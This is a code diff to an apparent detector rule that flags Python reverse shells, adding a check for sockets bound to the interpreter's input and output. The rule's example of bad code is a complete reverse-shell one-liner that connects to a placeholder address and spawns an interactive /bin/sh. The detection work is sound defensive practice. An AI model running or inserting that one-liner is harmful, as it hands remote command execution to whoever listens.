@@ -19,9 +19,18 @@ def check(case: Case) -> Iterator[Seen]:
         yield Seen(
             score, f"It connects to {one.where}, then {then}: whoever is at the other end can type commands.", one.facts
         )
+    for fact in case.of("rebind"):
+        joined = fact.name in ("sys.stdin", "sys.stdout") and origins(fact.taint, "socket", "connect", "accept")
+        if joined and case.of("interactive", "typed", "execute"):
+            yield Seen(
+                92,
+                "It makes a connection the interpreter's own input: whoever is there can type Python.",
+                (fact, *case.of("connect")[:1]),
+            )
+            break
     for fact in case.of("input"):
         if origins(taint_of_role(fact, "data"), "receive"):
-            shells = [one for one in case.of("process") if one in fact.taint and opens_shell(words_of(one)) is not None]
+            shells = [one for one in case.of("process") if opens_shell(words_of(one)) is not None]
             if shells:
                 yield Seen(
                     95,
@@ -39,6 +48,6 @@ RULE = Rule(
     bad="import os, socket, subprocess\ns = socket.socket(); s.connect(('192.0.2.10', 4444))\nos.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); subprocess.call(['/bin/sh', '-i'])",
     good="s.connect((host, 5432)); s.sendall(b'ping')",
     references=("https://attack.mitre.org/techniques/T1059/006/", "https://gtfobins.github.io/gtfobins/python/"),
-    wakes=frozenset({"dup2", "process", "input"}),
+    wakes=frozenset({"dup2", "process", "input", "rebind"}),
     check=check,
 )
